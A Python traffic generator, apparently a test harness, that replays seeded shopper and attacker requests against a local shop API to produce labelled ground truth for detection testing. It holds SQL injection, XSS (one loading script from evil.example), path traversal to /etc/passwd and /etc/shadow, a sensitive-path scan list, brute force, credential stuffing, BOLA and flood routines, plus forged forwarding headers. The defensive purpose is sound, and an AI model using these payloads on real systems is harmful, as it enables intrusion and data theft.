#!/usr/bin/env python3
"""All the clients of the recording: shoppers and attackers, seeded, Python's standard library only.

Every connection begins with a PROXY protocol line, which is where its peer address comes from.

usage: drive.py PORT DRIVEN.json
"""
import asyncio
import json
import random
import sys
import time
from urllib.parse import quote

from api import ADMIN, FIRST_ORDER, ORDERS, SEED, WARES, accounts, canary, password

PORT = 0
PROXY = "192.0.2.10"
SECRETS = set()  # every secret that was sent or received
WINDOWS = {}  # attacker -> [kind, start, end]
BENIGN, FRAMED = set(), set()

CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
WEB = [
    CHROME,
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
]
APP = ["ShopApp/5.2.1 (iPhone; iOS 18.1)", "ShopApp/5.2.0 (Android 14; Pixel 8)", "ShopApp/5.1.7 (Android 13; SM-A546B)"]
OLD_APP = "ShopApp/3.9.4 (Android 10; SM-G960F)"


def secret(*parts):
    text = canary(*parts)
    SECRETS.add(text)
    return text


def password_of(email):
    text = password(email)
    SECRETS.add(text)
    return text


class Connection:
    def __init__(self, peer):
        self.peer, self.writer, self.lock = peer, None, asyncio.Lock()

    async def open(self):
        self.reader, self.writer = await asyncio.open_connection("127.0.0.1", PORT)
        local = self.writer.get_extra_info("sockname")[1]
        family, here = ("TCP6", "2001:db8::443") if ":" in self.peer else ("TCP4", "127.0.0.1")
        self.writer.write(f"PROXY {family} {self.peer} {here} {local} 443\r\n".encode())

    def close(self):
        if self.writer:
            self.writer.close()
            self.writer = None

    async def ask(self, data):
        async with self.lock:
            if self.writer is None or self.reader.at_eof():
                await self.open()
            self.writer.write(data)
            head = (await self.reader.readuntil(b"\r\n\r\n")).decode("latin-1").split("\r\n")
            headers = [tuple(line.split(": ", 1)) for line in head[1:] if ": " in line]
            low = {name.lower(): value for name, value in headers}
            body = await self.reader.readexactly(int(low["content-length"]))
            if low.get("connection") == "close":
                self.close()
            return int(head[0].split()[1]), low, body


class Edge:
    """The trusted proxy: a few connections, each carrying many clients' requests."""
    pool = []

    async def ask(self, data):
        free = [c for c in Edge.pool if not c.lock.locked()]
        return await (free or Edge.pool)[0].ask(data)

    def close(self):
        pass


class Client:
    def __init__(self, ip, agent, *, proxied=False, forged=None, host="shop.example", web=True):
        self.ip, self.proxied, self.forged, self.host, self.web = ip, proxied, forged, host, web
        self.agent, self.extra, self.cookie, self.bearer = agent, [], [], None
        self.link = Edge() if proxied else Connection(ip)

    async def ask(self, method, target, body=None, form=False, extra=()):
        lines = [("Host", self.host), ("User-Agent", self.agent), ("Accept", "application/json, text/plain, */*"),
                 ("Accept-Encoding", "gzip, deflate"), *self.extra, *extra]
        if self.web:
            lines += [("Accept-Language", "en-GB,en;q=0.8"), ("Referer", "https://shop.example/")]
        if self.bearer:
            lines.append(("Authorization", f"Bearer {self.bearer}"))
        if self.cookie:
            lines.append(("Cookie", "; ".join(self.cookie)))
        hops = ([self.forged] if self.forged else []) + ([self.ip] if self.proxied else [])
        if hops:
            lines.append(("X-Forwarded-For", ", ".join(hops)))
        if self.proxied:
            lines += [("X-Forwarded-Proto", "https"), ("Via", "1.1 edge.shop.example")]
        data = b""
        if body is None and method == "POST":
            lines.append(("Content-Length", "0"))
        if body is not None:
            data = "&".join(f"{k}={quote(v, safe='@')}" for k, v in body.items()).encode() if form else json.dumps(body).encode()
            kind = "application/x-www-form-urlencoded" if form else "application/json"
            lines += [("Content-Type", kind), ("Content-Length", str(len(data)))]
        head = f"{method} {target} HTTP/1.1\r\n" + "".join(f"{n}: {v}\r\n" for n, v in lines) + "\r\n"
        status, headers, answer = await self.link.ask(head.encode() + data)
        if headers.get("set-cookie", "").startswith("sid=cnry-"):
            SECRETS.add(headers["set-cookie"][4:].split(";")[0])
        return status, headers, answer

    async def login(self, email, pwd, form=False):
        status, headers, answer = await self.ask("POST", "/api/login", {"email": email, "password": pwd}, form)
        if status == 200:
            sid, token = headers["set-cookie"][4:].split(";")[0], json.loads(answer)["token"]
            SECRETS.update((sid, token))
            if self.web:
                self.cookie = [f"sid={sid}", "theme=light"]
            else:
                self.bearer = token
        return status


async def think(rng, least=0.4, most=4.0):
    await asyncio.sleep(rng.uniform(least, most))


async def browse(c, rng):
    if c.web and rng.random() < 0.12:
        await c.ask("GET", rng.choice(["/favicon.ico", "/robots.txt", "/apple-touch-icon.png"]))
    if rng.random() < 0.75:
        await c.ask("GET", "/api/products" + (f"?page={rng.randrange(1, 9)}" if rng.random() < 0.4 else ""))
        await think(rng)
    for _ in range(rng.choice([0, 1, 1, 2])):
        number = rng.randrange(1001, 1123)  # the last two were sold out: 404
        await c.ask("GET", f"/api/products/{number}")
        if c.web and rng.random() < 0.2:
            await c.ask("GET", f"/api/products/{number}/image?file=front.jpg")
        await think(rng)
    if rng.random() < 0.4:
        words = [rng.choice(WARES), "desk+lamp", "O%27Brien", "tea%20%26%20coffee", "caf%C3%A9", "blue+rug"]
        await c.ask("GET", f"/api/search?q={rng.choice(words)}")
        await think(rng)


async def member(c, rng, email, *, mistypes=0, read=3):
    for n in range(mistypes):
        await c.login(email, secret("typo", email, n))
        await think(rng, 1.5, 5)
    await c.login(email, password_of(email))
    await think(rng)
    if rng.random() < 0.8:
        await c.ask("GET", "/api/orders")
        own = ORDERS[email]
        for order in rng.sample(own, min(len(own), rng.randrange(read + 1))):
            await think(rng)
            await c.ask("GET", f"/api/orders/{order}")
        await think(rng)
    if rng.random() < 0.3:
        await c.ask("GET", "/api/account")
        await think(rng)
    if rng.random() < 0.08:
        await c.ask("POST", "/api/orders", {"items": [{"productId": rng.randrange(1001, 1100), "quantity": 1}]})
        await think(rng)
    if rng.random() < 0.03:
        await c.ask("POST", "/api/account/password", {"current": password_of(email), "new": secret("new", email)})
    if rng.random() < 0.12:
        await c.ask("POST", "/api/logout")


async def shopper(i, ip, email, proxied, start):
    rng = random.Random(f"{SEED}:{ip}")
    BENIGN.add(ip)
    await asyncio.sleep(start)
    web = rng.random() < 0.7
    c = Client(ip, rng.choice(WEB if web else APP), proxied=proxied, web=web)
    if proxied and i % 9 == 0:
        c.forged = f"10.20.{rng.randrange(9)}.{rng.randrange(2, 250)}"  # an office's own proxy, truthfully
    if i % 29 == 3:  # the old app: an operation that is deprecated; some also one that was removed
        c = Client(ip, OLD_APP, proxied=proxied, web=False)
        await c.ask("GET", "/api/catalog?page=1")
        await think(rng)
        if i % 2:
            await c.ask("GET", "/api/basket")
    await browse(c, rng)
    if i % 31 == 5:
        await c.ask("GET", "/api/recommendations")  # in no document
        await think(rng)
    if rng.random() < 0.55:
        mistypes = rng.choices([0, 1, 2], [82, 13, 5])[0]
        await member(c, rng, email, mistypes=mistypes)
        if i % 23 == 7:  # an invoice by a link that carries its own token
            order = ORDERS[email][0]
            await c.ask("GET", f"/api/orders/{order}/invoice?token={secret('invoice', order)}")
    c.link.close()


async def office(ip, emails):
    """One address, many people."""
    BENIGN.add(ip)

    async def person(n, email):
        rng = random.Random(f"{SEED}:{ip}:{n}")
        await asyncio.sleep(4 + 8.5 * n)
        c = Client(ip, rng.choice(WEB))
        await member(c, rng, email, mistypes=1 if n in (3, 9) else 0)
        c.link.close()

    await asyncio.gather(*(person(n, e) for n, e in enumerate(emails)))


async def firm(ip, email):
    """Reads all of its own fourteen orders, one after the other."""
    BENIGN.add(ip)
    rng = random.Random(f"{SEED}:{ip}")
    await asyncio.sleep(58)
    c = Client(ip, WEB[1])
    await c.login(email, password_of(email))
    await c.ask("GET", "/api/orders")
    for order in ORDERS[email]:
        await think(rng, 1.5, 4)
        await c.ask("GET", f"/api/orders/{order}")
    c.link.close()


async def administrator(ip):
    BENIGN.add(ip)
    rng = random.Random(f"{SEED}:{ip}")
    await asyncio.sleep(12)
    c = Client(ip, WEB[2])
    await c.login(ADMIN, password_of(ADMIN))
    for round_ in range(4):
        await c.ask("GET", f"/api/admin/users?page={round_}")
        for _ in range(3):
            await think(rng, 2, 7)
            await c.ask("GET", f"/api/admin/users/{rng.randrange(300)}")
        await think(rng, 5, 12)
    c.link.close()


async def partner(ip, header):
    """A price comparison that pages through the catalogue: quick, and welcome."""
    BENIGN.add(ip)
    await asyncio.sleep(40 if header else 92)
    c = Client(ip, "PriceScout/2.3 (+https://pricescout.example/bot)", web=False)
    key = secret("partner", ip)
    for page in range(10):
        if header:
            await c.ask("GET", f"/api/products?page={page}", extra=[("X-Api-Key", key)])
        else:
            await c.ask("GET", f"/api/products?page={page}&api_key={key}")
        await asyncio.sleep(0.6)
    c.link.close()


async def monitor(ip):
    """Asks by address, once: CRS 920350, a warning on its own."""
    BENIGN.add(ip)
    await asyncio.sleep(33)
    c = Client(ip, "uptime-check/1.4", host="192.0.2.80", web=False)
    await c.ask("GET", "/api/products/1001")
    c.link.close()


async def framed(ip, email, proxied):
    """A client whose name an attacker uses; its own traffic is ordinary and goes on meanwhile."""
    FRAMED.add(ip)
    rng = random.Random(f"{SEED}:{ip}")
    await asyncio.sleep(25)
    c = Client(ip, WEB[3], proxied=proxied)
    await browse(c, rng)
    await member(c, rng, email, mistypes=1)
    for _ in range(5):
        await think(rng, 5, 12)
        await browse(c, rng)
    c.link.close()


# Attackers. `attack` times an attack; what comes before it (a login) is not part of it.

class attack:
    def __init__(self, c, kind):
        self.c, self.kind = c, kind

    async def __aenter__(self):
        self.start = time.time()

    async def __aexit__(self, *_):
        WINDOWS[self.c.ip] = [self.kind, self.start, time.time()]
        self.c.link.close()


async def brute_force(c, start, account, tries, pace):
    rng = random.Random(f"{SEED}:{c.ip}")
    await asyncio.sleep(start)
    async with attack(c, "credential_brute_force"):
        for n in range(tries):
            assert await c.login(account, secret("guess", c.ip, n)) == 401
            await think(rng, pace * 0.6, pace * 1.4)


async def stuffing(c, start, emails):
    rng = random.Random(f"{SEED}:{c.ip}")
    await asyncio.sleep(start)
    async with attack(c, "credential_stuffing"):
        for n, email in enumerate(emails):
            known = email in ORDERS and n % 13 == 4
            await c.login(email, password_of(email) if known else secret("leaked", email))
            c.cookie = []
            if n % 6 == 5:
                c.link.close()
            await think(rng, 0.4, 1.2)


async def bola(c, start, email, first, count):
    rng = random.Random(f"{SEED}:{c.ip}")
    await asyncio.sleep(start)
    await c.login(email, password_of(email))
    await c.ask("GET", "/api/orders")
    await c.ask("GET", f"/api/orders/{ORDERS[email][0]}")
    async with attack(c, "bola"):
        for order in range(first, first + count):
            await c.ask("GET", f"/api/orders/{order}")
            await think(rng, 0.3, 0.9)


HIDDEN = """/.git/config /.git/HEAD /.env /.svn/entries /backup.zip /backup.tar.gz /db.sql /dump.sql /site.bak /old/ /test/
/admin /admin/login /administrator/ /console /actuator /actuator/env /actuator/heapdump /server-status /phpinfo.php
/wp-login.php /wp-admin/ /config.json /config.yml /swagger.json /swagger-ui.html /v2/api-docs /graphql /metrics /debug
/debug/vars /.well-known/openid-configuration /.DS_Store /id_rsa /private/ /uploads/ /tmp/ /logs/ /jenkins/ /manager/html
/api/admin /api/admin/users /api/admin/users/1 /api/admin/orders /api/admin/config /api/admin/settings /api/admin/export
/api/admin/logs /api/admin/keys /api/admin/tokens /api/admin/backup /api/admin/debug /api/admin/jobs /api/admin/audit
/api/internal /api/internal/users /api/private /api/debug /api/test /api/dev /api/v0/users /api/v1/users /api/v2/users
/api/users /api/customers /api/payments /api/keys /api/secrets /api/config /api/health/full /api/swagger.json""".split()


async def forced_browsing(c, start):
    rng = random.Random(f"{SEED}:{c.ip}")
    await asyncio.sleep(start)
    async with attack(c, "forced_browsing"):
        for path in HIDDEN:
            await c.ask("GET", path)
            await think(rng, 0.3, 1.1)


SQL = ["lamp' AND 1=1-- -", "lamp' AND 1=2-- -", "lamp' ORDER BY 5-- -", "lamp' UNION SELECT NULL,NULL-- -",
       "lamp' UNION ALL SELECT NULL,NULL,NULL-- -", "lamp' AND SLEEP(5)-- -", "lamp';WAITFOR DELAY '0:0:5'--",
       "-1' UNION SELECT email,password FROM users-- -", "lamp' AND (SELECT COUNT(*) FROM information_schema.tables)>0-- -",
       "lamp' OR '1'='1", "lamp') OR ('1'='1", "lamp' AND EXTRACTVALUE(1,CONCAT(0x5c,VERSION()))-- -",
       "1;SELECT PG_SLEEP(5)--", "lamp' UNION SELECT table_name,NULL FROM information_schema.tables-- -",
       "lamp' AND 1=(SELECT 1 FROM dual)-- -", "lamp' OR 1=1#"]


async def sql_injection(c, start, payloads, pace, logins=()):
    rng = random.Random(f"{SEED}:{c.ip}")
    await asyncio.sleep(start)
    async with attack(c, "sql_injection"):
        for n, payload in enumerate(payloads):
            link = f"&token={secret('link', c.ip, n)}" if n % 5 == 2 else ""
            await c.ask("GET", f"/api/search?q={quote(payload, safe='')}{link}")
            await think(rng, pace * 0.6, pace * 1.4)
        for n, (email, tail, form) in enumerate(logins):
            await c.ask("POST", "/api/login", {"email": email, "password": secret("injected", n) + tail}, form)
            await think(rng, pace * 0.6, pace * 1.4)


SCRIPTS = ["<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
           "<iframe src=\"javascript:alert(1)\"></iframe>", "<body onload=alert(1)>", "javascript:alert(document.domain)//<a href=",
           "<script src=https://evil.example/x.js></script>", "<details open ontoggle=alert(1)>"]


async def xss(c, start):
    rng = random.Random(f"{SEED}:{c.ip}")
    await asyncio.sleep(start)
    async with attack(c, "xss"):
        for n, text in enumerate(SCRIPTS):
            if n % 2:
                await c.ask("POST", f"/api/products/{1010 + n}/reviews", {"stars": 5, "text": text})
            else:
                await c.ask("GET", f"/api/search?q={quote(text, safe='')}")
            await think(rng, 1.5, 4)
        await c.ask("GET", f"/api/search?q={quote(SCRIPTS[1], safe='')}&token={secret('link', c.ip)}")
        await think(rng, 1.5, 4)
        # A secret that only the OpenAPI document tells (x-sensitive).
        await c.ask("PATCH", "/api/account", {"displayName": SCRIPTS[0], "loyaltyPin": secret("pin")})


async def traversal(c, start):
    rng = random.Random(f"{SEED}:{c.ip}")
    await asyncio.sleep(start)
    image = "/api/products/1004/image?file="
    async with attack(c, "path_traversal"):
        for target in [
            image + "../../../../etc/passwd",
            image + "..%2f..%2f..%2f..%2fetc%2fpasswd",
            image + "....//....//....//etc/passwd",
            image + "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
            image + "../../../../etc/passwd%FF.jpg",
            image + "..%5c..%5c..%5cwindows%5cwin.ini",
            image + "/etc/shadow",
            image + "../../../../proc/self/environ&api_key=" + secret("key", c.ip),
            "/api/products/..%2f..%2f..%2f..%2fetc/passwd",
            "/api/products/1004/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
            image + "..%c0%af..%c0%afetc%c0%afpasswd",
        ]:
            await c.ask("GET", target)
            await think(rng, 1, 2.4)


async def flood(ip, start, count, seconds):
    await asyncio.sleep(start)
    clients = [Client(ip, "Go-http-client/1.1", web=False) for _ in range(10)]
    async with attack(clients[0], "rate_abuse"):
        begin = time.time()

        async def worker(k, c):
            for n in range(k, count, len(clients)):
                await asyncio.sleep(max(0, begin + n * seconds / count - time.time()))
                await c.ask("GET", f"/api/products?page={n % 9}")

        await asyncio.gather(*(worker(k, c) for k, c in enumerate(clients)))
    for c in clients:
        c.link.close()


def stolen(c):
    """A session, a token and a key on the attack's own requests."""
    c.cookie = [f"sid={secret('stolen-sid', c.ip)}", "theme=dark"]
    c.bearer = secret("stolen-bearer", c.ip)
    c.extra.append(("X-Api-Key", secret("stolen-key", c.ip)))
    return c


async def main():
    names = accounts()
    rng = random.Random(SEED)
    addresses = [(f"198.51.100.{n}", False) for n in range(10, 172) if n != 77]
    addresses += [(f"2001:db8:1:{n:x}::{rng.randrange(1, 0xffff):x}", False) for n in range(1, 42)]
    addresses += [(f"192.0.2.{n}", True) for n in range(64, 138) if n != 101]
    Edge.pool = [Connection(PROXY) for _ in range(8)]
    jobs = [shopper(i, ip, names[i], proxied, rng.uniform(0, 128)) for i, (ip, proxied) in enumerate(addresses)]
    jobs += [
        office("198.51.100.200", names[300:314]),
        firm("198.51.100.210", names[359]),
        administrator("198.51.100.5"),
        partner("198.51.100.220", True), partner("198.51.100.221", False),
        monitor("198.51.100.250"),
        framed("192.0.2.101", names[320], True),
        framed("198.51.100.77", names[321], False),
    ]
    tool, script = "python-requests/2.32.3", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0"
    leaked = [names[n] if n % 3 == 0 else f"{names[n].split('@')[0]}@post.example" for n in range(280, 338)]
    jobs += [
        brute_force(Client("203.0.113.11", tool, web=False), 20, names[340], 72, 0.52),
        stuffing(Client("203.0.113.24", script), 35, leaked),
        bola(Client("203.0.113.37", CHROME), 48, names[345], FIRST_ORDER + 300, 92),
        forced_browsing(Client("203.0.113.41", "gobuster/3.6", web=False), 15),
        sql_injection(stolen(Client("203.0.113.58", "sqlmap/1.8.4#stable (https://sqlmap.org)", web=False)), 60, SQL, 1.3),
        xss(stolen(Client("203.0.113.66", CHROME)), 74),
        traversal(Client("203.0.113.73", "curl/8.5.0", web=False), 95),
        flood("203.0.113.89", 100, 440, 5.0),
        brute_force(Client("203.0.113.102", tool, proxied=True, forged="192.0.2.101", web=False), 68, names[341], 66, 0.6),
        sql_injection(stolen(Client("203.0.113.120", script, forged="198.51.100.77")), 30, SQL[::2], 1.6, [
            (names[350], "' OR '1'='1'--", False),
            (ADMIN, "' UNION SELECT 1,2,3-- -", False),
            (names[351], "' OR '1'='1'--", True),
            (names[352], "'; DROP TABLE users-- -", True),
        ]),
    ]
    await asyncio.gather(*jobs)
    for c in Edge.pool:
        c.close()
    with open(sys.argv[2], "w", encoding="utf-8") as file:
        json.dump({"attackers": WINDOWS, "framed": sorted(FRAMED), "benign": sorted(BENIGN), "secrets": sorted(SECRETS)}, file)


if __name__ == "__main__":
    PORT = int(sys.argv[1])
    asyncio.run(main())
